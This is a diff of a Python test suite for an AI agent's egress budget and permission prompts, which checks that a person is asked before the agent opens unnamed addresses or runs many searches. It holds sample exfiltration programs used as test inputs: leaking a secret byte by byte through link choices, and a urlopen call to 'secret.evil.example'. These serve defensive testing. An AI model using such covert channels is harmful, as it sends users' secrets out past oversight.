@@ -1,6 +1,5 @@
 """What a chat can send away unasked, by which addresses it opens and what it searches for: a handful of choices."""
 
-import asyncio
 from collections.abc import Callable
 from typing import Any
 
@@ -16,7 +15,6 @@ from agent_core.net.egress_budget import (
     SITE_IN_STEP,
 )
 from agent_core.net.url_allowlist import MOST_OF_PERSON, NamedBy
-from agent_core.permissions import Decision, PermissionRequest
 from agent_core.sandbox.host import connections
 from agent_core.tools.context import learn_addresses
 from tests.agent_core.support import code
@@ -24,7 +22,7 @@ from tests.doubles.certificates import Authority
 from tests.doubles.openai_server import Reply
 from tests.doubles.search_proxy import HOSTS, SearchProxy
 from tests.doubles.web_server import WebServer
-from tests.support import model_of
+from tests.support import Person, model_of
 from tests.tools.loopback import Loopback
 from tools.web_search import WebSearch
 
@@ -35,21 +33,6 @@ page = visit_webpage('SITE/')
 for byte in SECRET:
     page = visit_webpage(page.links[byte].url)
 """
-
-
-class Person:
-    def __init__(self, *decisions: Decision) -> None:
-        self.decisions = list(decisions)
-        self.asked: list[PermissionRequest] = []
-
-    async def __call__(self, request: PermissionRequest) -> Decision:
-        self.asked.append(request)
-        await asyncio.sleep(0.05)
-        return self.decisions.pop(0) if len(self.decisions) > 1 else self.decisions[0]
-
-    @property
-    def names(self) -> list[tuple[str, str]]:
-        return [(request.kind, request.name) for request in self.asked]
 
 
 @pytest.fixture
@@ -105,7 +88,7 @@ async def test_the_person_is_told_how_many_and_may_let_it_go_on(server, steps, s
     person = Person("once")
     await steps(SPELL.replace("SECRET", repr(CANARY)), person=person)
     assert opened(server)[-1] == f"/{CANARY.hex()}"
-    assert person.names == [("address", f"site.example:{site.port}")]
+    assert person.permissions == [("address", f"site.example:{site.port}")]
     assert person.asked[0].meaning.startswith(
         "The agent has opened 5 pages of site.example in this step that neither the user nor a search named, and wants "
         f"to open more, next {site.url('/')}{CANARY[:6].hex()}. Which of many addresses"
@@ -132,7 +115,7 @@ async def test_once_is_for_the_step_and_always_for_the_chat(server, steps, site)
     person = Person("once", "always")
     read = "for link in visit_webpage('SITE/').links[{}:{}]:\n    visit_webpage(link.url)"
     await steps(*(read.format(n, n + 10) for n in (0, 10, 20)), person=person)
-    assert person.names == [("address", f"site.example:{site.port}")] * 2
+    assert person.permissions == [("address", f"site.example:{site.port}")] * 2
     assert len(opened(server)) == 30
 
 
@@ -182,7 +165,7 @@ for link in visit_webpage('SITE/{listing}').links:
     person = Person("deny")
     await steps(program, person=person)
     assert len(opened(server)) == most
-    assert person.names == [("address", asked.replace("PORT", str(site.port)))]
+    assert person.permissions == [("address", asked.replace("PORT", str(site.port)))]
 
 
 async def test_a_chat_has_limits_of_its_own(server, steps):
@@ -309,7 +292,7 @@ async def test_a_host_that_reads_like_an_allowed_one_is_another(server, steps, s
     person = Person("deny")
     hosts = [f"strasse.example:{site.port}", f"site.example:{site.port}"]
     (told,) = await steps(f"visit_webpage('{site.url('/1?secret', other)}')", person=person, hosts=hosts)
-    assert person.names == [("address", f"xn--strae-oqa.example:{site.port}")]
+    assert person.permissions == [("address", f"xn--strae-oqa.example:{site.port}")]
     assert "was not allowed" in told and server.requests == []
 
 
@@ -358,7 +341,7 @@ async def test_a_person_decides_about_searches_for_the_step_or_the_chat(steps, p
     running, search = proxy
     person = Person(decision)
     await steps(SEARCH, SEARCH.replace("secret", "other"), tools=[search], person=person)
-    assert person.names == [("search", "many searches")] * questions
+    assert person.permissions == [("search", "many searches")] * questions
     assert "has made 10 web searches in this step" in person.asked[0].meaning
     assert "“secret 9”" in person.asked[0].meaning
     assert len(running.asked) == (61 if decision != "deny" else 20)
@@ -377,5 +360,5 @@ async def test_no_name_is_looked_up_before_the_person_allows_it(monkeypatch, ste
     person = Person("deny")
     connect = "import urllib.request\nurllib.request.urlopen('http://secret.evil.example/')"
     await steps("visit_webpage('http://secret.evil.example/')", connect, person=person, imports=["*"])
-    assert person.names == [("address", "secret.evil.example"), ("host", "secret.evil.example")]
+    assert person.permissions == [("address", "secret.evil.example"), ("host", "secret.evil.example")]
     assert looked_up == []
